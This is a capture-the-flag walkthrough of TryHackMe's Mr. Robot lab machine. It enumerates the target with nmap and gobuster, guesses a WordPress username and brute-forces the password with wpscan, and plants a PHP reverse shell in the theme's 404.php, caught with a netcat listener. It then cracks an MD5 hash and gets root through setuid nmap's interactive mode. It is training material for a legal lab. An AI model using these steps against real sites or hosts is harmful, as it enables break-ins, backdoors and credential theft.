TryHackMe – Mr. Robot Capture The Flag (CTF) Challenge

5/5 - (3 votes)
TryHackMe – Mr. Robot Capture The Flag (CTF) Challenge

Have you seen the hacker-themed TV show Mr. Robot?

This article is a write-up of the walkthrough video for the CTF (Capture The Flag) style hacking challenge, Mr. Robot, on TryHackMe.

The challenge involves using standard pen-testing tools like nmap for enumeration and gobuster for brute-force directory sniffing. We will also make use of exploiting a certain bin command’s capability to run as root in order to carry out an attack to retrieve the last flag.

First, we connect to the VPN with OpenVPN, start up our target machine, and then note down our IPs.

export myIP=
export targetIP=


Let’s start scanning the target machine with nmap.

sudo nmap -Pn -sC -p- -O $targetIP
  • -Pn skips host discovery
  • -sC runs default script
  • -p- scans all ports• -O enables OS detection

Here’s the output:

└─$ sudo nmap -Pn -sC -p- -O $targetIP
[sudo] password for tester:
Starting Nmap 7.93 ( ) at 2022-12-01 12:16 EST
Stats: 0:00:19 elapsed; 0 hosts completed (1 up), 1 undergoing SYN Stealth Scan
SYN Stealth Scan Timing: About 7.58% done; ETC: 12:20 (0:03:52 remaining)
Stats: 0:13:21 elapsed; 0 hosts completed (1 up), 1 undergoing SYN Stealth Scan
SYN Stealth Scan Timing: About 90.25% done; ETC: 12:30 (0:01:27 remaining)
Stats: 0:13:43 elapsed; 0 hosts completed (1 up), 1 undergoing SYN Stealth Scan
SYN Stealth Scan Timing: About 91.88% done; ETC: 12:30 (0:01:13 remaining)Nmap scan report for
Host is up (0.081s latency).
Not shown: 65532 filtered tcp ports (no-response)
22/tcp  closed ssh
80/tcp  open   http
|_http-title: Site doesn't have a title (text/html).
443/tcp open   https
| ssl-cert: Subject:
| Not valid before: 2015-09-16T10:45:03
|_Not valid after:2025-09-13T10:45:03
|_http-title: Site doesn't have a title (text/html).
Device type: general purpose|specialized|storage-misc|WAP|broadband router|printer
Running (JUST GUESSING): Linux 3.X|5.X|4.X|2.6.X (91%), Crestron 2-Series (89%), HP embedded (89%), Asus embedded (88%)OS CPE: cpe:/o:linux:linux_kernel:3 cpe:/o:linux:linux_kernel:5.4 cpe:/o:linux:linux_kernel:4 cpe:/o:crestron:2_series cpe:/h:hp:p2000_g3 cpe:/o:linux:linux_kernel:2.6.22 cpe:/o:linux:linux_kernel:2.6 cpe:/h:asus:rt-n56u
Aggressive OS guesses: Linux 3.10 - 3.13 (91%), Linux 5.4 (91%), Linux 3.10 - 4.11 (90%), Linux 3.12 (90%), Linux 3.13 (90%), Linux 3.13 or 4.2 (90%), Linux 3.2 - 3.5 (90%), Linux 3.2 - 3.8 (90%), Linux 4.2 (90%), Linux 4.4 (90%)
No exact OS matches for host (test conditions non-ideal).

OS detection performed. Please report any incorrect results at .
Nmap done: 1 IP address (1 host up) scanned in 942.40 seconds

For further enumeration, let’s grab SecLists (aset of standard scanning wordlists), seclists from the git repo at: Next, we’ll run gobuster using big.txt as our wordlist from SecLists:

sudo gobuster dir -w /home/tester/hacking-tools/SecLists/Discovery/Web-Content/big.txt -u
  • -w for wordlist
  • -u for url

The most interesting pages that jump out at me are the robots.txt and the /wp-admin. Let’s look at both of them to see what additional hints we can find.

We discover (no surprise!) a login page to WordPress at $targetIP/wp-login.php

Looking at $targetIP/robots.txt we find:

User-agent: *

Locating The First Key

If we navigate in our browser to $targetIP/fsocity.dic we download a dictionary file fsocity.dic. Browsing through the dictionary, we notice that it appears to be a password wordlist.

$targetIP/key-1-of-3.txt reveals our first of three keys:

Determining The Username

Now that we have a login page to WordPress, a password wordlist (fsociety.dic), all we need is a login username, and we will be ready to use gobuster to brute-force our way into the admindashboard.

After inspecting the login page, we guess a few names from the Mr. Robot show: Elliot, Mr. Robot, Tyrell.

The errors from the login page reveal that Elliot is a valid username, but Mr. Robot and Tyrell are not. To test this out, we can also try misspelling Elliott (with two t’s) with a random password to see that the error returned says: invalid username.

Brute-Forcing The Password To WordPress Admin Dashboard

For this next attack we will use a specialized wordpressscanning tool:

wpscan --url -P /home/tester/Downloads/fsocity.dic --usernames elliot
  • -P for password list

The scan successfully found Elliot’s password!

successfully found Elliot's password: ER28-0652

Uploading a Malicious Payload

After logging in to WordPress at $targetIP/wp-login.php we find a dashboard. Clicking on the left sidebar on Appearance/editor shows us a list of pages we can modify.

Let’s modify the 404.php error page to upload a malicious payload.

Spawning a Reverse Shell From WordPress

Beware the Backdoor!

For our malicious payload, we will use pentest monkey’s PHP revshell from GitHub.

The only thing we need to modify on the payload is our attack machine’s IP and listening port. After updating the payload, we can save it in the 404.php page.

Now to spawn a shell to a listener, all we need to do is load up the $targetIP/404.php page from our browser.

Let’s set up a listener with netcat:

sudo nc -lvnp 53


  • l = listen mode, for inbound connects
  • v = verbose
  • n = suppress name/port resolutions
  • p = port

We used port 53 for our listener port in this example.

Success! We just caught the reverse shell with netcat. It is an unstable shell, so we can do a few things to stabilize it. We can start by spawning a proper shell withPython.

python -c 'import pty;pty.spawn("/bin/bash");’

After backgrounding the shell with Ctrl+Z we enter the command:

stty raw -echo; fg

This command mirrors our terminal settings from the local machine to the netcat listener shell. It will also give us abilities such as tab completion and up for most recent commands.

The fg at the end of this command foregrounds the nc listener.

And now, when we load the 404.php webpage, we successfully catch the revshell!

Decrypting User Robot’s Password

Navigate to /home/robot

cat password.raw-md5



Found it! Now, all we need to do is to look this hash up on a website that hosts dictionaries of cracked hashes or crack it on our attack machine with a program like hashcat.

Using crackstation we canfind the cleartext of our password!


Finding The Second Key

After switching over to user robot with our cracked password, we do a bit of enumeration and easily find the key.

su robot
cat key-2-of-3.txt

Privilege Escalation to Root

With the following command, we search for files in /bin/ that have the setuid bit set.

In other words, these types of files can run as root from a non-root account. GTFObins has a comprehensive list of leveraging certain binaries’ abilities to carry out privilege escalation.

For this box, we will find out that there are several options with the command:

find / -perm +6000 2>/dev/null | grep '/bin/'

We will move forward with Nmap. It has the ability to go into an interactive mode where it can send and receive commands as the root user.

We launch nmap in interactive mode with the command:nmap --interactive

Then adding the prefix ! allows us to issue sudo commands. After locating the file for key 3, we cancat it out using ; to chain commands together.

nmap> !cd /root;cat key-3-of-3.txt

And now wehave retrieved all 3 of Mr. Robot’s keys.